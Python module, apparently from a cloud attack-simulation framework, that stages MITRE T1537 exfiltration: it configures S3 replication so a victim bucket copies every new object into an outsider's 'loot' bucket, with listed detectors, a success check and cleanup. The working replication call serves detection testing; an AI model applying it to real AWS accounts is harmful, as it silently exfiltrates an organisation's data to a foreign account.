"""Replicate a bucket into a foreign account: from now on every new object is delivered there by AWS itself."""

from bastide.attack.stage import Stage
from bastide.attack.technique import Recorded, Scene, Technique

TECHNIQUE = Technique(
    title="A bucket is replicated into a stranger's account",
    mitre=("T1537",),
    tactic="exfiltration",
    detectors=(
        "GuardDuty Exfiltration:IAMUser/AnomalousBehavior",
        "AWS Config s3-bucket-cross-region-replication-enabled",
    ),
    expected=Recorded("log-archive-bucket-protect holds the log buckets only", would="perimeter-resource-scp"),
    source="Amazon S3 API Reference, PutBucketReplication",
)


def prepare(stage: Stage) -> Scene:
    """A bucket, the stranger's bucket, and a role for S3."""
    bucket, theirs = stage.bucket("orders"), stage.bucket("loot", account=stage.outsider)
    for account, name in ((stage.victim, bucket), (stage.outsider, theirs)):
        stage.owner(account).client("s3").put_bucket_versioning(
            Bucket=name, VersioningConfiguration={"Status": "Enabled"}
        )
    role = stage.role("replication", trusts={"Service": "s3.amazonaws.com"}, allows="s3:*")
    return {"bucket": bucket, "theirs": theirs, "role": role}


def attack(stage: Stage, scene: Scene) -> None:
    """Replicate everything."""
    rule = {
        "ID": "backup",
        "Status": "Enabled",
        "Priority": 1,
        "Filter": {"Prefix": ""},
        "DeleteMarkerReplication": {"Status": "Disabled"},
        "Destination": {"Bucket": f"arn:aws:s3:::{scene['theirs']}", "Account": stage.outsider},
    }
    stage.attacker().client("s3").put_bucket_replication(
        Bucket=scene["bucket"], ReplicationConfiguration={"Role": scene["role"], "Rules": [rule]}
    )


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The bucket replicates to the stranger's."""
    s3 = stage.owner().client("s3")
    try:
        found = s3.get_bucket_replication(Bucket=scene["bucket"])["ReplicationConfiguration"]["Rules"]
    except s3.exceptions.ClientError as error:
        if error.response["Error"]["Code"] != "ReplicationConfigurationNotFoundError":
            raise
        return False
    return any(one["Destination"]["Bucket"].endswith(scene["theirs"]) for one in found)


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete the buckets and the role."""
    stage.drop_bucket(scene["bucket"])
    stage.drop_bucket(scene["theirs"], account=stage.outsider)
    stage.drop_role(scene["role"])
